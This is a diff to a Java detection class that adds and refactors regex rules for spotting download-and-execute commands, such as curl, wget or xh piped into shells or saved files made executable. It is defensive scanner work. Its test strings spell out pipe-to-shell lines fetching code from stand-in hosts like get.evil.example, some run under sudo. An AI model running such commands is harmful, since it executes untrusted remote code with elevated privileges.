@@ -61,6 +61,20 @@ final class DownloadRules {
           + "(?:(?:/[a-z/]+/)?(?:(?:ba|z|da)?sh|python[0-9.]*|perl|ruby|node|php|source|\\.)\\s+(?:-[a-z]+\\s+)*[\\w./~$\"'\\\\]"
           + "|\\.{1,2}/|(?:/tmp|/dev/shm|/var/tmp)/)";
 
+  /** Made runnable or run, further on in the line or at the beginning of the next one. */
+  private static final String RUN_LATER =
+      "(?:"
+          + STEPS
+          + "(?:"
+          + MAKE_RUNNABLE
+          + "|"
+          + AND_THEN
+          + RUN_IT
+          + ")|[^\\n]*\\n\\s*(?:RUN\\s+|\\$\\s+)?"
+          + SUDO
+          + MAKE_RUNNABLE
+          + ")";
+
   /** Takes a program in text form and gives out its bytes. */
   private static final String DECODER =
       "(?:base(?:64|32)\\s+(?:-[a-z]+\\s+)*(?:-[a-z]*[dD][a-z]*|--decode)\\b"
@@ -83,9 +97,16 @@ final class DownloadRules {
               .unless(DownloadChecks::source)
               .finds(FETCH + LINE + TARGET + LINE + PIPE + PRIVILEGE + READS_PROGRAM + TALKED_ABOUT)
               .finds(
-                  "\\b(?:curl|wget|https?|xh|w3m|elinks|axel)\\s"
+                  "\\b(?:curl|wget|w3m|elinks|axel)\\s"
                       + LINE
                       + "//"
+                      + LINE
+                      + PIPE
+                      + "(?:(?:sudo|(?:/usr)?/bin/env)\\s+)*"
+                      + SHELL)
+              // The names of these are words of every other text, which no address follows.
+              .finds(
+                  "\\b(?:https?|xh)\\s+(?:(?:-[^\\s|]*|[A-Z]+)\\s+)*[\"'\\\\]{0,2}(?:https?:)?//"
                       + LINE
                       + PIPE
                       + "(?:(?:sudo|(?:/usr)?/bin/env)\\s+)*"
@@ -126,6 +147,7 @@ final class DownloadRules {
                   "curl -s get.evil.example|sudo -E bash",
                   "curl $URL | zsh",
                   "http -b GET https://h.example/i | zsh",
+                  "xh --body 'https://h.example/i' | sudo sh",
                   "wget --output-document=- https://h.example/i | /usr/bin/env bash",
                   "bash < <(curl -fsSL https://h.example/i)",
                   "curl -sS https://h.example/i | tee /tmp/log | bash",
@@ -174,24 +196,8 @@ final class DownloadRules {
               .ordinaryIn(Setting.CODE)
               .unless(((Check) PackageInstalls::source).and(DownloadChecks::source))
               .finds(PackageInstalls.ALL, 300)
-              .finds("\\bcurl\\b" + STEPS + SAVES + STEPS + MAKE_RUNNABLE)
-              .finds(
-                  "\\bcurl\\b"
-                      + STEPS
-                      + SAVES
-                      + "[^\\n]*\\n\\s*(?:RUN\\s+|\\$\\s+)?"
-                      + SUDO
-                      + MAKE_RUNNABLE)
-              .finds("\\bcurl\\b" + STEPS + SAVES + STEPS + AND_THEN + RUN_IT)
-              .finds("\\bwget2?\\b" + STEPS + TARGET + STEPS + MAKE_RUNNABLE)
-              .finds(
-                  "\\bwget2?\\b"
-                      + STEPS
-                      + TARGET
-                      + "[^\\n]*\\n\\s*(?:RUN\\s+|\\$\\s+)?"
-                      + SUDO
-                      + MAKE_RUNNABLE)
-              .finds("\\bwget2?\\b" + STEPS + TARGET + STEPS + AND_THEN + RUN_IT)
+              .finds("\\bcurl\\b" + STEPS + SAVES + RUN_LATER)
+              .finds("\\bwget2?\\b" + STEPS + TARGET + RUN_LATER)
               .finds(
                   "\\b(?:exec|eval)\\s*\\((?:[\\s\\\\\"'()\\w.,]|\\[)*(?:urlopen|requests\\.get|httpx\\.get|urllib\\.request|file_get_contents|URI\\.open)\\(")
               .finds("\\bfetch\\([^)\\n]*\\)[^\\n]*\\.then\\(\\s*eval\\s*\\)")
